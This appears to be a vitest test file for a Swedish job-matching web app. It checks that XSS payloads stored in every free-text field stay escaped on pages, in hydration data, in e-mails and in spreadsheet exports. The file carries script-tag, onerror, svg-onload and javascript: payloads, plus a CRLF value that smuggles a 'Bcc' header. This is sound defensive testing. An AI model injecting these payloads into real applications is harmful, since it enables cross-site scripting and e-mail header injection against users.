/**
 * Every free-text field a person can type into comes back escaped: on every page that shows it
 * (whole documents from the real build, through Remix's request handler, as hostile-input.test.ts
 * does), in the JSON that hydrates the page, and in every e-mail that names it (the outbox holds
 * the rendered HTML and text; the test also delivers them to the local Resend stand-in). Subject
 * lines are one line of plain text: a line break typed into a title or a name never reaches a
 * header. A statistics file opened in a spreadsheet never runs an organisation's name as a formula.
 * Needs `remix build` first (npm test builds before it runs vitest).
 *
 * Each field is stored through the real route action (or, where no form exists, the service the
 * background worker calls, or a row written directly) with the payloads below: `<script>`, an
 * attribute break-out with `onerror`, a `</textarea>` break-out with `<svg onload>`, `{{ }}` /
 * `${ }` template syntax and, where the field has room, `javascript:`. Each field carries its own
 * tag, so a page is seen to show that field and not another one.
 *
 * Inventory: field → pages that show it (whole documents) → e-mails that include it (S: also in
 * the subject) → the `it` below that stores it and checks each of those places. Every page and
 * e-mail is also checked as a whole for live markup, whatever it shows.
 *
 * | Field (table.column)                        | Pages                                                                       | E-mails (outbox template)                                            | Test          |
 * |---------------------------------------------|-----------------------------------------------------------------------------|----------------------------------------------------------------------|---------------|
 * | organizations.name                          | /organisationer/$id, /organisationer?q, /admin/organisationer?q,            | opening-published, -unpublished, -deadline-reminder, match-proposal, | organisation, |
 * |                                             | /platser/$id, /platser?q, /matchning/plats/$id, /mentorskap/mentorer/$id,   | match-answer, match-interview (both copies), match-placement,        | openings,     |
 * |                                             | /feriejobb/erbjudande/$token, /statistik/organisation/$id                   | feriejobb-accepted, feriejobb-offer (place facts)                    | matching, …   |
 * | organizations.name in statistics files      | /statistik/export CSV (leading = + - @ → apostrophe), XLSX (text cell)      | –                                                                    | statistics    |
 * | job_partnerships.terms, jobbspar[]          | /organisationer/$id                                                         | –                                                                    | organisation  |
 * | users.name (coach, employer, coordinator;   | header of every page (root loader), /konto, /coach, /admin/anvandare,       | invitation, password-reset, match-proposal, match-answer,            | users,        |
 * | with CR/LF in it)                           | /admin/logg, /organisationer/$id (contacts), /coach/aspiranter/$id,         | match-interview, match-placement, match-follow-up,                   | matching,     |
 * |                                             | /arbetsgivare/forslag/$id, /mentorskap                                      | mentor-introduction, mentor-follow-up (never in a subject)           | mentoring     |
 * | openings.title (with CR/LF in it)           | /platser/$id, /platser?q (after <mark>), /arbetsgivare/platser(/$id,        | S: opening-published, -unpublished, -deadline-reminder,              | openings,     |
 * |                                             | /redigera), the new-opening form after an invalid POST, /matchningar(/$id), | match-proposal, match-answer, match-interview, match-placement;      | matching      |
 * |                                             | /matchning/plats/$id, /matchning/$o/$a, /arbetsgivare/forslag(/$id)         | body only: match-follow-up                                           |               |
 * | (feriejobb place, mentor slot,              | /feriejobb/erbjudande/$token; /mentorskap/mentorer?plats=;                  | feriejobb-accepted, feriejobb-offer                                  | feriejobb,    |
 * | Stockholmsjobb)                             | /arbetsgivare/platser/$id                                                   |                                                                      | mentoring     |
 * | openings.description, workplace_address,    | /platser/$id, /arbetsgivare/platser/$id, /arbetsgivare/platser/$id/         | contact_name: opening-*, match-proposal, match-interview (employer)  | openings,     |
 * | contact_name, contact_phone,                | redigera (supervisor_phone only there), the new-opening form after an       | workplace_address: feriejobb-accepted, feriejobb-offer               | feriejobb     |
 * | supervisor_name, supervisor_phone,          | invalid POST; description in /platser?q hits; description, address and      |                                                                      |               |
 * | adaptations, languages[]                    | supervisor of a feriejobb place on /feriejobb/erbjudande/$token             |                                                                      |               |
 * | openings.details.learningGoals[]            | /arbetsgivare/platser/$id                                                   | –                                                                    | openings      |
 * | openings.unpublish_reason                   | /arbetsgivare/platser, /arbetsgivare/platser/$id                            | opening-unpublished                                                  | openings      |
 * | aspirants.first_name, last_name             | /coach/aspiranter(/$id, /redigera, ?q), the enrol form after an invalid     | match-proposal, match-interview (employer copy), match-placement     | aspirants,    |
 * |                                             | POST, /matchningar(/$id), /matchning/aspirant/$id, /matchning/$o/$a;        | (as "Förnamn E.")                                                    | matching      |
 * |                                             | employer: "Förnamn E." on /arbetsgivare/forslag(/$id)                       |                                                                      |               |
 * | aspirants.notes, adaptation_needs           | /coach/aspiranter/$id(/redigera), the enrol form after an invalid POST      | –                                                                    | aspirants     |
 * | aspirants.languages[].language              | /coach/aspiranter/$id, /arbetsgivare/forslag/$id                            | –                                                                    | aspirants, …  |
 * | action_plans.goal, activities.description,  | /coach/aspiranter/$id                                                       | –                                                                    | aspirants     |
 * | activities.follow_up_result                 |                                                                             |                                                                      |               |
 * | matches.message                             | /matchningar/$id, /arbetsgivare/forslag/$id, /admin/e-post/$id              | match-proposal                                                       | matching      |
 * | matches.employer_note, closed_comment       | /matchningar/$id (the coach's page; not shown back to the employer)         | –                                                                    | matching      |
 * | matches.interview_place                     | /matchningar/$id, /arbetsgivare/forslag/$id                                 | match-interview (employer and coach copies)                          | matching      |
 * | mentors.first_name, last_name, languages[]  | /mentorskap/mentorer(/$id), /mentorskap/adepter/$id, /mentorskap/par/$id    | mentor-introduction (both copies), mentor-follow-up                  | mentoring     |
 * | adepts.first_name, last_name, languages[],  | /mentorskap/adepter(/$id), /mentorskap/par/$id                              | mentor-introduction (both copies), mentor-follow-up                  | mentoring     |
 * | notes                                       |                                                                             |                                                                      |               |
 * | mentor_meetings.topic, mentor_pairs.        | /mentorskap/par/$id                                                         | –                                                                    | mentoring     |
 * | end_reason                                  |                                                                             |                                                                      |               |
 * | feriejobb_applications.first_name,          | /feriejobb/bekrafta/$token (after its POST), /feriejobb/ansokningar/$id     | feriejobb-confirm, feriejobb-received (languages in its summary),    | feriejobb     |
 * | last_name, adaptation_needs,                | (all), /feriejobb/ansokningar?q, /feriejobb/erbjudande/$token (before and   | feriejobb-accepted; feriejobb-offer(-guardian): template rendered    |               |
 * | guardian_name, languages[]                  | after its POST)                                                             | directly (publishing a run is feriejobb.test.ts's)                   |               |
 * | statistics_targets.note                     | /admin/mal                                                                  | –                                                                    | admin         |
 * | match_weight_versions.note                  | /admin/matchningsvikter                                                     | –                                                                    | admin         |
 * | email_outbox.subject, text (from the above) | /admin/e-post, /admin/e-post/$id; delivered to the Resend stand-in          | every template: inert HTML, one-line subject, one recipient          | every e-mail  |
 * | search words echoed back (q)                | /platser?q, /organisationer?q, /admin/organisationer?q,                     | –                                                                    | openings, …   |
 * |                                             | /coach/aspiranter?q, /feriejobb/ansokningar?q                               |                                                                      |               |
 *
 * Not free text (validated to a fixed shape, so no payload can be stored): e-mail addresses,
 * phone numbers of mentors, adepts and youths (digits only), personnummer, dates, SSYK codes,
 * ids, enums. Links built from data are mailto: with a validated address, or app paths.
 * The single-line fields (titles, names) are not stripped of line breaks by their schemas; the
 * e-mail outbox makes every subject one line (emails/outbox.server.ts subjectLine).
 * Not rendered here: /feriejobb/fordelning/$id (needs a finished allocation run; it shows opening
 * titles and organisation names as JSX text, as the pages above do), and the register extract
 * /coach/aspiranter/$id/utdrag (a JSON download, application/json with attachment disposition).
 */
import { existsSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { render } from '@react-email/render';
import { createRequestHandler, type ServerBuild } from '@remix-run/node';
import { and, eq, sql } from 'drizzle-orm';
import { createElement } from 'react';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { todayInStockholm } from '../../app/dates';
import { applicationYear } from '../../app/feriejobb/feriejobb-rules';
import { hashToken, newToken } from '../../app/lib/tokens.server';
import { sendHealthReminders } from '../../app/mentoring/mentoring.server';
import { sendFollowUpReminders } from '../../app/matching/pipeline.server';
import { sendDeadlineReminders } from '../../app/openings/openings.server';
import * as newUserPage from '../../app/routes/admin.anvandare.ny';
import * as targetsPage from '../../app/routes/admin.mal';
import * as weightsPage from '../../app/routes/admin.matchningsvikter';
import * as newOrganizationPage from '../../app/routes/admin.organisationer.ny';
import * as proposalPage from '../../app/routes/arbetsgivare.forslag.$id';
import * as applyPage from '../../app/routes/feriejobb.ansok';
import * as forgotPage from '../../app/routes/glomt-losenord';
import * as pairCheckPage from '../../app/routes/matchning.$openingId.$aspirantId';
import * as matchPage from '../../app/routes/matchningar.$id';
import * as adeptPage from '../../app/routes/mentorskap.adepter.$id';
import * as adeptsPage from '../../app/routes/mentorskap.adepter._index';
import * as mentorPage from '../../app/routes/mentorskap.mentorer.$id';
import * as mentorsPage from '../../app/routes/mentorskap.mentorer._index';
import * as pairPage from '../../app/routes/mentorskap.par.$id';
import * as openingPage from '../../app/routes/platser.$id';
import * as exportRoute from '../../app/routes/statistik.export';
import { getDb, getSearch } from '../../app/services.server';
import { refreshStatistics } from '../../app/statistics/statistics.server';
import { emailOutbox, feriejobbApplications, feriejobbOffers, feriejobbRuns, searchOutbox, users } from '../../db/schema';
import { luhnCheckDigit, testPersonnummer } from '../../db/seed/random';
import { OfferEmail } from '../../emails/feriejobb';
import { createResendSender, deliverDueEmails } from '../../emails/outbox.server';
import { applyIndexSettings } from '../../search/sync.server';
import { enrolAs, enrolForm, jobbtorgId, postProfile } from '../setup/aspirants';
import { addDays, createOpeningAs, openingForm, publishAs } from '../setup/openings';
import { BASE, callAction, callLoader, jsonOf, loginAs } from '../setup/remix';
import { startResendRecorder, type ResendRecorder } from '../setup/resend-recorder';
import { drainSearchOutbox } from '../setup/search';

// ---------------------------------------------------------------------------------------------
// Payloads
// ---------------------------------------------------------------------------------------------

const P = {
  script: '<script>alert(1)</script>',
  attribute: '"><img src=x onerror=alert(1)>',
  textarea: '</textarea><svg onload=alert(1)>',
  template: '{{7*7}}${7*7}',
  link: 'javascript:alert(1)',
} as const;
const PIECES = [P.script, P.attribute, P.textarea, '{{7*7}}', '${7*7}', P.link];
const ALL = PIECES.join('');

/**
 * A field's value: its own tag (so a page is seen to show this field, not another one) and as
 * many whole payloads as fit in `max` characters, in the order above: a long field gets all of
 * them, a 100-character name at least the three markup ones.
 */
function hostile(tag: string, max = 5000) {
  let value = tag;
  for (const piece of PIECES) if (value.length + piece.length <= max) value += piece;
  return value;
}
/** One item per payload, for lists (languages, job tracks, learning goals: at most 40 characters each, no commas). */
const items = (tag: string) => [P.script, P.attribute, P.textarea, P.template].map((piece) => `${tag} ${piece}`);

/** A line break that would start a header of its own if it reached one. */
const CRLF = '\r\nBcc: spy@evil.test';
/** Subjects carry the title with its line break turned into a space. */
const oneLine = (s: string) => s.replace(CRLF, ' Bcc: spy@evil.test');

const V = {
  orgName: hostile('Org ', 160),
  terms: hostile('Villkor '),
  jobbspar: items('spår'),
  coachName: `${hostile('Coach ', 100)}${CRLF}`,
  employerName: `${hostile('Chef ', 100)}${CRLF}`,
  coordinatorName: `${hostile('Samordnare ', 100)}${CRLF}`,
  title: `${hostile('Titel ', 100)}${CRLF}`,
  description: hostile('Beskrivning '),
  address: hostile('Adress '),
  contactName: hostile('Kontakt ', 120),
  contactPhone: `T ${P.script}`,
  supervisorName: hostile('Handledare ', 120),
  supervisorPhone: `T ${P.attribute}`,
  adaptations: hostile('Anpassning '),
  openingLanguages: items('pl'),
  unpublishReason: hostile('Avpublicerad '),
  jobbTitle: hostile('Stockholmsjobb ', 120),
  learningGoals: items('mål'),
  firstName: hostile('Fn ', 100),
  lastName: hostile('En ', 100),
  secondLastName: hostile('Andra ', 100),
  notes: hostile('Anteckning '),
  needs: hostile('Behov '),
  aspirantLanguages: items('as'),
  goal: hostile('Mål '),
  activity: hostile('Aktivitet '),
  followUpResult: hostile('Resultat '),
  message: hostile('Meddelande '),
  employerNote: hostile('Intresserade '),
  interviewPlace: hostile('Plats ', 300),
  declineComment: hostile('Kommentar '),
  slotTitle: hostile('Mentorsplats ', 120),
  mentorFirst: hostile('MFn ', 100),
  mentorLast: hostile('MEn ', 100),
  mentorLanguages: items('me'),
  adeptFirst: hostile('AFn ', 100),
  adeptLast: hostile('AEn ', 100),
  adeptLanguages: items('ad'),
  adeptNotes: hostile('Notering '),
  topic: hostile('Ämne ', 500),
  endReason: hostile('Slut '),
  youthFirst: hostile('UFn ', 100),
  youthLast: hostile('UEn ', 100),
  youthNeeds: hostile('Ungdomsbehov ', 1000),
  guardianName: hostile('Vårdnadshavare ', 200),
  youthLanguages: items('fj'),
  placeTitle: hostile('Feriejobb ', 120),
  placeAddress: hostile('Feriejobbsadress '),
  placeDescription: hostile('Feriejobbsbeskrivning '),
  placeSupervisor: hostile('Feriejobbshandledare ', 120),
  targetNote: hostile('Målnot ', 200),
  weightsNote: hostile('Viktnot ', 500),
};
/** What the employer's side calls an aspirant: first name and initial. */
const displayName = `${V.firstName} ${V.lastName[0]}.`;

const today = todayInStockholm();
const YEAR = Number(today.slice(0, 4));

// ---------------------------------------------------------------------------------------------
// Rendering and the checks every document and e-mail gets
// ---------------------------------------------------------------------------------------------

/** What React writes for a text or attribute value. */
const escapeHtml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#x27;');
/** What Remix writes for a string inside the inline hydration JSON. */
const hydrationForm = (s: string) => JSON.stringify(s).slice(1, -1).replace(/&/g, '\\u0026').replace(/</g, '\\u003c').replace(/>/g, '\\u003e');

/** A payload that came through as markup, in any form. */
const LIVE = [/<script>alert/i, /<img src=x/i, /<svg onload/i, /<\/textarea><svg/i, /<\/script><img/i, /<\/script><svg/i];
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc']);
const TAG = /<([a-zA-Z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g;
const ATTRIBUTE = /([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/**
 * No payload is live markup: none of its tags appears, no real tag has an event-handler attribute
 * (an escaped payload inside a quoted attribute value is text, so values are skipped) and no
 * link or source is a javascript: URL. Every <script> and <textarea> is closed where it was
 * opened by the page, not by a payload.
 */
function expectInert(html: string, where: string) {
  for (const live of LIVE) expect(html, `${where}: ${live}`).not.toMatch(live);
  for (const [, name, attributes] of html.matchAll(TAG)) {
    for (const [, attribute, doubleQuoted, singleQuoted, bare] of attributes!.matchAll(ATTRIBUTE)) {
      const key = attribute!.toLowerCase();
      expect(key.startsWith('on'), `${where}: <${name} ${key}=…>`).toBe(false);
      const value = (doubleQuoted ?? singleQuoted ?? bare ?? '').trim().toLowerCase();
      if (URL_ATTRIBUTES.has(key)) expect(value.startsWith('javascript:'), `${where}: <${name} ${key}="${value}">`).toBe(false);
    }
  }
  const count = (re: RegExp) => html.match(re)?.length ?? 0;
  expect(count(/<script\b/gi), `${where}: <script> opened and closed`).toBe(count(/<\/script>/gi));
  expect(count(/<textarea\b/gi), `${where}: <textarea> opened and closed`).toBe(count(/<\/textarea>/gi));
}

/** Each value is on the page, whole and escaped (so it reached the reader as text). */
function expectShown(html: string, values: readonly string[], where: string) {
  for (const value of values) expect(html, `${where} shows ${JSON.stringify(value.slice(0, 40))}… escaped`).toContain(escapeHtml(value));
}

let handle: (request: Request) => Promise<Response>;

async function documentOf(pathname: string, cookie: string | undefined, options: { form?: Record<string, string> | FormData; status?: number } = {}) {
  const headers: Record<string, string> = cookie ? { Cookie: cookie } : {};
  const init: RequestInit = options.form
    ? { method: 'POST', headers, body: options.form instanceof FormData ? options.form : new URLSearchParams(options.form) }
    : { headers };
  const response = await handle(new Request(`${BASE}${pathname}`, init));
  const html = await response.text();
  expect(response.status, `${pathname}: ${html.slice(0, 300)}`).toBe(options.status ?? 200);
  expect(response.headers.get('Content-Type')).toMatch(/^text\/html/);
  return html;
}

/**
 * Renders the document and checks it: the values shown escaped, nothing live, and the loader
 * and action data inlined for hydration with `<` escaped, so a `</script>` in a value cannot end
 * the inline script early.
 */
async function expectPage(pathname: string, cookie: string | undefined, values: readonly string[], options: { form?: Record<string, string> | FormData; status?: number } = {}) {
  const html = await documentOf(pathname, cookie, options);
  expectInert(html, pathname);
  expectShown(html, values, pathname);
  if (values.some((v) => v.includes(P.script))) {
    expect(html, `${pathname}: the hydration data carries the payload escaped`).toContain(hydrationForm(P.script));
    expect(html).toContain('window.__remixContext');
  }
  return html;
}

type OutboxRow = typeof emailOutbox.$inferSelect;
async function mailsOf(template: string, to?: string): Promise<OutboxRow[]> {
  return getDb()
    .select()
    .from(emailOutbox)
    .where(and(eq(emailOutbox.template, template), to ? eq(emailOutbox.to, to) : undefined));
}

/** A subject is one line of plain text; the recipient is one address. */
function expectPlainHeaders(row: { subject: string; to: string | string[] }, where: string) {
  expect(row.subject, `${where}: subject`).not.toMatch(/[\r\n\u0085\u2028\u2029]/);
  for (const to of [row.to].flat()) expect(to, `${where}: to`).toMatch(/^[^\s,;<>"]+@[^\s,;<>"]+$/);
}

/** The e-mail's HTML shows each value escaped and nothing live; its headers are plain. */
function expectMail(row: OutboxRow | undefined, values: readonly string[], where: string) {
  expect(row, `${where} was queued`).toBeTruthy();
  expectInert(row!.html, where);
  expectShown(row!.html, values, where);
  expectPlainHeaders(row!, where);
}

/** Posts through the real action; fails with the body unless the status is the expected one. */
async function expectStatus(response: Response, status: number, what: string) {
  if (response.status !== status) throw new Error(`${what} answered ${response.status}: ${await response.text()}`);
  return response;
}

function formData(form: Record<string, string | string[]>) {
  const data = new FormData();
  for (const [name, value] of Object.entries(form)) for (const item of [value].flat()) data.append(name, item);
  return data;
}

const idAfter = (response: Response, prefix: string) => {
  const location = response.headers.get('Location') ?? '';
  const id = new RegExp(`^${prefix}([0-9a-f-]{36})`).exec(location)?.[1];
  if (!id) throw new Error(`no ${prefix}<id> in the redirect to ${location}`);
  return id;
};

/** A valid organisationsnummer (Luhn) from nine digits. */
const orgNumber = (nine: string) => `${nine.slice(0, 6)}-${nine.slice(6)}${luhnCheckDigit(nine)}`;

// ---------------------------------------------------------------------------------------------
// State built up by the tests, in order
// ---------------------------------------------------------------------------------------------

let admin: string;
let cityEmployer: string;
let feriejobbCoordinator: string;
let hostileCoach: string;
let hostileEmployer: string;
let hostileCoordinator: string;

let org: string;
const emails = {
  coach: 'coach.fientlig@insteg.test',
  employer: 'arbetsgivare.fientlig@insteg.test',
  coordinator: 'samordnare.fientlig@insteg.test',
  contact: 'kontakt.fientlig@exempel.se',
  supervisor: 'handledare.fientlig@exempel.se',
  mentor: 'mentor.fientlig@exempel.se',
  adept: 'adept.fientlig@exempel.se',
  youth: 'ungdom.fientlig@exempel.se',
};
let opening: string;
let aspirant: string;

beforeAll(async () => {
  const buildPath = path.resolve('build/index.js');
  if (!existsSync(buildPath)) throw new Error('build/index.js is missing: run `npx remix build` (npm test does) before this file');
  const build = (await import(pathToFileURL(buildPath).href)) as ServerBuild;
  const handler = createRequestHandler(build, 'production');
  handle = (request) => handler(request, { clientIp: '192.0.2.21', cspNonce: 'test-nonce' });
  [admin, cityEmployer, feriejobbCoordinator] = await Promise.all([
    loginAs('admin@insteg.test'),
    loginAs('arbetsgivare.stad@insteg.test'),
    loginAs('feriejobb.samordnare@insteg.test'),
  ]);
  // Only what this file writes needs to be searchable: the seed's queued documents are dropped
  // rather than indexed (a few seconds saved).
  await applyIndexSettings(getSearch());
  await getDb().delete(searchOutbox);
});

describe('the checks themselves', () => {
  it('catch a payload that is live, and pass one that is escaped, in text or in a quoted attribute', () => {
    const fails = (html: string) => expect(() => expectInert(html, 'sample')).toThrow();
    fails(`<p>${P.script}</p>`);
    fails(`<p>${P.attribute}</p>`);
    fails(`<textarea>${P.textarea}</textarea>`);
    fails('<div title="x" onclick="alert(1)">x</div>');
    fails(`<a href="${P.link}">x</a>`);
    fails(`<a href=' ${P.link.toUpperCase()}'>x</a>`);
    fails(`<script>window.__remixContext = {"name":"${P.script}"};</script>`);
    expectInert(`<p>${escapeHtml(ALL)}</p><input value="${escapeHtml(ALL)}"/><textarea>${escapeHtml(ALL)}</textarea>`, 'escaped sample');
    expectInert(`<script>window.__remixContext = {"name":"${hydrationForm(ALL)}"};</script>`, 'escaped hydration data');
  });
});

describe('free text in every field comes back escaped', () => {
  it('organisation: name, partnership terms and job tracks, created by an admin', async () => {
    const response = await callAction(
      newOrganizationPage.action,
      '/admin/organisationer/ny',
      {
        name: V.orgName,
        orgNumber: orgNumber('556900123'),
        kind: 'integrationspakt_member',
        membershipLevel: 'plus',
        partnershipSignedOn: addDays(today, -30),
        partnershipTerms: V.terms,
        jobbspar: V.jobbspar.join('\n'),
      },
      { cookie: admin },
    );
    org = idAfter(await expectStatus(response, 302, 'creating the organisation'), '/organisationer/');
    await expectPage(`/organisationer/${org}`, admin, [V.orgName, V.terms, ...V.jobbspar]);
    await drainSearchOutbox();
    // The search word is a payload itself: echoed in the search field, and the organisation found.
    const q = `Org ${P.script}`;
    await expectPage(`/organisationer?q=${encodeURIComponent(q)}`, admin, [q, V.orgName]);
    await expectPage(`/admin/organisationer?q=${encodeURIComponent(q)}`, admin, [q, V.orgName]);
  });

  it('users: names with markup and a line break, in the invitation, the reset e-mail, the header and the admin pages', async () => {
    const kista = await jobbtorgId('kista');
    for (const [email, name, role, extra] of [
      [emails.coach, V.coachName, 'coach', { jobbtorgId: String(kista) }],
      [emails.employer, V.employerName, 'employer', { organizationId: org }],
      [emails.coordinator, V.coordinatorName, 'mentor_coordinator', {}],
    ] as const) {
      const response = await callAction(newUserPage.action, '/admin/anvandare/ny', { name, email, role, ...extra }, { cookie: admin });
      await expectStatus(response, 302, `creating ${role}`);
      expectMail((await mailsOf('invitation', email))[0], [name], `invitation to ${role}`);
    }
    // The invitation link is not followed here: the seeded demo password is set directly.
    const [template] = await getDb().select().from(users).where(eq(users.email, 'coach.kista@insteg.test'));
    for (const email of [emails.coach, emails.employer, emails.coordinator]) {
      await getDb().update(users).set({ passwordHash: template!.passwordHash, passwordChangedAt: template!.passwordChangedAt }).where(eq(users.email, email));
    }
    [hostileCoach, hostileEmployer, hostileCoordinator] = await Promise.all([loginAs(emails.coach), loginAs(emails.employer), loginAs(emails.coordinator)]);

    await expectStatus(await callAction(forgotPage.action, '/glomt-losenord', { email: emails.coach }), 200, 'asking for a reset');
    expectMail((await mailsOf('password-reset', emails.coach))[0], [V.coachName], 'password reset');

    await expectPage('/konto', hostileCoach, [V.coachName]);
    await expectPage('/admin/anvandare', admin, [V.coachName, V.employerName, V.coordinatorName]);
    // The organisation's contact people.
    await expectPage(`/organisationer/${org}`, admin, [V.employerName]);
  });

  it('openings: every text field, on the public and the employer pages, the edit form and the e-mails; the title never reaches a subject with its line break', async () => {
    const fields = {
      title: V.title,
      description: V.description,
      workplaceAddress: V.address,
      contactName: V.contactName,
      contactEmail: emails.contact,
      contactPhone: V.contactPhone,
      supervisorName: V.supervisorName,
      supervisorPhone: V.supervisorPhone,
      adaptations: V.adaptations,
      languages: V.openingLanguages.join(', '),
      applicationDeadline: addDays(today, 2),
    };
    opening = await createOpeningAs(hostileEmployer, 'praktik', today, fields);
    const details = [V.title, V.description, V.address, V.contactName, V.contactPhone, V.supervisorName, V.adaptations, ...V.openingLanguages];
    // The edit form holds every value in its inputs and textareas (a </textarea> stays inside).
    await expectPage(`/arbetsgivare/platser/${opening}/redigera`, hostileEmployer, [V.title, V.description, V.address, V.contactName, V.contactPhone, V.supervisorName, V.supervisorPhone, V.adaptations]);
    await publishAs(hostileEmployer, opening);
    const published = (await mailsOf('opening-published', emails.contact))[0];
    expectMail(published, [V.contactName, V.title, V.orgName], 'opening-published');
    expect(published!.subject).toBe(`Din plats är publicerad: ${oneLine(V.title)}`);

    const unpublished = await callAction(openingPage.action, `/platser/${opening}`, { reason: V.unpublishReason }, { cookie: admin, params: { id: opening } });
    await expectStatus(unpublished, 200, 'unpublishing');
    expectMail((await mailsOf('opening-unpublished', emails.contact))[0], [V.contactName, V.title, V.orgName, V.unpublishReason], 'opening-unpublished');
    await expectPage('/arbetsgivare/platser', hostileEmployer, [V.title, V.unpublishReason]);
    await expectPage(`/arbetsgivare/platser/${opening}`, hostileEmployer, [...details, V.unpublishReason]);
    await publishAs(hostileEmployer, opening);

    await sendDeadlineReminders(getDb(), today);
    expectMail((await mailsOf('opening-deadline-reminder', emails.contact))[0], [V.contactName, V.title, V.orgName], 'opening-deadline-reminder');

    const coach = await loginAs('coach.kista@insteg.test');
    await expectPage(`/platser/${opening}`, coach, [...details, V.orgName]);
    await drainSearchOutbox();
    // A hit's title comes with the search word marked (<mark>Titel</mark>), the rest as escaped text.
    await expectPage(`/platser?q=${encodeURIComponent('Titel')}&sort=newest`, coach, [V.title.slice('Titel'.length), V.orgName, V.description]);
    await expectPage(`/platser?q=${encodeURIComponent(P.script)}`, coach, [P.script]);

    // A Stockholmsjobb's learning goals (a city unit's), shown on the employer's page.
    const jobb = await createOpeningAs(cityEmployer, 'stockholmsjobb', today, { title: V.jobbTitle, learningGoals: V.learningGoals.join('\n') });
    await expectPage(`/arbetsgivare/platser/${jobb}`, cityEmployer, [V.jobbTitle, ...V.learningGoals]);

    // An invalid submission re-renders the form with the values kept, inside their fields.
    const invalid = openingForm('praktik', today, { ...fields, startDate: 'inte ett datum' });
    await expectPage('/arbetsgivare/platser/ny?typ=praktik', hostileEmployer, [V.title, V.description, V.adaptations], { form: invalid, status: 400 });
  });

  it('aspirants: names, notes, adaptation needs, languages, the action plan and activities', async () => {
    const form = await enrolForm({
      firstName: V.firstName,
      lastName: V.lastName,
      notes: V.notes,
      adaptationNeeds: V.needs,
      languages: V.aspirantLanguages.map((l) => `${l}: god`).join('\n'),
    });
    aspirant = await enrolAs(hostileCoach, form);
    await expectStatus(await postProfile(hostileCoach, aspirant, { intent: 'plan', goal: V.goal, createdOn: today }), 200, 'saving the plan');
    const activity = await postProfile(hostileCoach, aspirant, {
      intent: 'activity',
      type: 'praktik',
      description: V.activity,
      startOn: today,
      endOn: today,
      status: 'planned',
      followUpOn: today,
      followUpResult: V.followUpResult,
    });
    await expectStatus(activity, 200, 'saving the activity');

    const names = [V.firstName, V.lastName];
    await expectPage(`/coach/aspiranter/${aspirant}`, hostileCoach, [...names, V.coachName, V.notes, V.needs, ...V.aspirantLanguages, V.goal, V.activity, V.followUpResult]);
    await expectPage(`/coach/aspiranter/${aspirant}/redigera`, hostileCoach, [...names, V.notes, V.needs]);
    await drainSearchOutbox();
    await expectPage('/coach/aspiranter', hostileCoach, names);
    await expectPage(`/coach/aspiranter?q=${encodeURIComponent(V.lastName)}`, hostileCoach, names);
    await expectPage('/coach', hostileCoach, [V.coachName]);

    const invalid = { ...form, personnummer: '' };
    await expectPage('/coach/aspiranter/ny', hostileCoach, [...names, V.notes, V.needs], { form: invalid, status: 400 });
  });

  it('matching: the coach’s message, the employer’s note, interview place and decline comment, on both sides and in every e-mail', async () => {
    const proposed = await callAction(pairCheckPage.action, `/matchning/${opening}/${aspirant}`, { message: V.message }, { cookie: hostileCoach, params: { openingId: opening, aspirantId: aspirant } });
    const matchId = idAfter(await expectStatus(proposed, 302, 'proposing'), '/matchningar/');
    const opened = [V.title, V.orgName];
    expectMail((await mailsOf('match-proposal', emails.contact))[0], [...opened, V.contactName, V.coachName, displayName, V.message], 'match-proposal');

    const employerMove = (id: string, form: Record<string, string>) => callAction(proposalPage.action, `/arbetsgivare/forslag/${id}`, form, { cookie: hostileEmployer, params: { id } });
    const coachMove = (id: string, form: Record<string, string>) => callAction(matchPage.action, `/matchningar/${id}`, { intent: 'move', ...form }, { cookie: hostileCoach, params: { id } });

    await expectStatus(await employerMove(matchId, { to: 'reviewed', note: V.employerNote }), 200, 'reviewed');
    expectMail((await mailsOf('match-answer', emails.coach))[0], [...opened, V.coachName], 'match-answer');
    const interview = { to: 'interview', interviewDate: addDays(today, 7), interviewTime: '10:00', interviewPlace: V.interviewPlace, note: V.employerNote };
    await expectStatus(await employerMove(matchId, interview), 200, 'interview');
    expectMail((await mailsOf('match-interview', emails.contact))[0], [...opened, V.contactName, displayName, V.interviewPlace], 'match-interview (employer)');
    expectMail((await mailsOf('match-interview', emails.coach))[0], [...opened, V.coachName, V.interviewPlace], 'match-interview (coach)');

    await expectPage(`/matchningar/${matchId}`, hostileCoach, [V.title, V.firstName, V.lastName, V.message, V.employerNote, V.interviewPlace]);
    // The employer's own note is not shown back to them (it is on the coach's page above).
    await expectPage(`/arbetsgivare/forslag/${matchId}`, hostileEmployer, [V.title, displayName, V.coachName, ...V.aspirantLanguages, V.message, V.interviewPlace]);
    await expectPage('/arbetsgivare/forslag', hostileEmployer, [V.title, displayName]);
    await expectPage('/matchningar', hostileCoach, [V.title, V.firstName]);
    // The opening's candidate list leaves out those already proposed.
    await expectPage(`/matchning/plats/${opening}`, hostileCoach, [V.title, V.orgName]);
    // The aspirant's list of openings leaves out those already proposed.
    await expectPage(`/matchning/aspirant/${aspirant}`, hostileCoach, [V.firstName, V.lastName]);
    await expectPage(`/matchning/${opening}/${aspirant}`, hostileCoach, [V.title, V.firstName]);

    await expectStatus(await coachMove(matchId, { to: 'offer' }), 200, 'offer');
    const placed = await coachMove(matchId, { to: 'placed', startDate: addDays(today, -120), endDate: addDays(today, -10), supervisorEmail: emails.supervisor });
    await expectStatus(placed, 200, 'placed');
    expectMail((await mailsOf('match-placement', emails.supervisor))[0], [...opened, displayName, V.coachName], 'match-placement');
    await expectStatus(await coachMove(matchId, { to: 'ended', endDate: addDays(today, -10), endReason: 'enligt_plan' }), 200, 'ended');
    await sendFollowUpReminders(getDb(), addDays(today, 400));
    expectMail((await mailsOf('match-follow-up', emails.coach))[0], [V.coachName, V.title], 'match-follow-up');

    // A second candidate, declined with a comment.
    const second = await enrolAs(hostileCoach, await enrolForm({ firstName: 'Andra', lastName: V.secondLastName }));
    const again = await callAction(pairCheckPage.action, `/matchning/${opening}/${second}`, { message: V.message }, { cookie: hostileCoach, params: { openingId: opening, aspirantId: second } });
    const declinedId = idAfter(await expectStatus(again, 302, 'proposing again'), '/matchningar/');
